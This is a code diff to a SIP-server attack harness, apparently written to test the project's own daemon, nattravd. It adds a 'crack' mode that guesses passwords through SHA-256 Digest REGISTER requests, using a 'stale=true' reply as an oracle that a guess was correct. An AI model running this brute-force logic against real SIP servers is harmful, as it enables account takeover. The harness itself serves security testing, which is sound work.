@@ -3,6 +3,7 @@
 """Attacks on nattravd, and what others notice of them.
 
 attacks.py SERVER:PORT time USERS         is a user's name told by the time of an answer?
+attacks.py SERVER:PORT crack USER SECONDS guesses his password; the twentieth guess is right
 attacks.py SERVER:PORT ratio              how much comes back for what is sent
 attacks.py SERVER:PORT flood RATE SECONDS strangers' requests, from sources of all kinds
 attacks.py SERVER:PORT ring USERS RATE SECONDS   INVITEs that nobody answers, 32 a user
@@ -101,6 +102,37 @@ def attack_time(users):
                       "unknown-us": round(means[1] / 1000, 2), "t": round(t, 2),
                       "known": sorted(text for which, text in answers if which == 0),
                       "unknown": sorted(text for which, text in answers if which == 1)}))
+
+
+def attack_crack(user, seconds):
+    """Whoever is told that only his nonce is stale has found the password, too."""
+    words = ["word%d" % number for number in range(19)] + [user + "s-secret"]
+    words += ["more%d" % number for number in range(10000)]
+    source = source_of(25000)
+    sock = opened(source)
+    sock.settimeout(0.3)
+    end = time.monotonic() + seconds
+    nonce, tries, number = None, 0, 0
+    while time.monotonic() < end:
+        number += 1
+        more = []
+        if nonce:
+            proof = phones.sha("%s:%s:00000001:c:auth:%s" % (
+                phones.sha("%s:example.net:%s" % (user, words[tries])), nonce, phones.sha("REGISTER:sip:example.net")))
+            more = ['Authorization: Digest username="%s", realm="example.net", nonce="%s", uri="sip:example.net", '
+                    'response="%s", algorithm=SHA-256, qop=auth, nc=00000001, cnonce="c"' % (user, nonce, proof)]
+        sock.send(request("REGISTER", user, number, source, more))
+        try:
+            answer = sock.recv(4096).decode()
+        except TimeoutError:
+            continue
+        if nonce:
+            tries += 1
+        if answer.startswith("SIP/2.0 200") or "stale=true" in answer:
+            print(json.dumps({"tries": tries, "found": words[tries - 1]}))
+            return
+        nonce = re.search('nonce="([^"]*)"[^\r]*SHA-256', answer)[1]
+    print(json.dumps({"tries": tries, "found": None}))
 
 
 def attack_ratio():
@@ -296,7 +328,8 @@ def others_silent():
         time.sleep(60)
 
 
-KINDS = {"time": (attack_time, int), "ratio": (attack_ratio,), "flood": (attack_flood, int, float),
+KINDS = {"time": (attack_time, int), "ratio": (attack_ratio,),
+         "crack": (attack_crack, str, float), "flood": (attack_flood, int, float),
          "ring": (attack_ring, int, int, float), "calls": (others_calls, int),
          "hold": (others_hold, int), "caller": (others_caller, int),
          "register": (others_register, str), "silent": (others_silent,)}
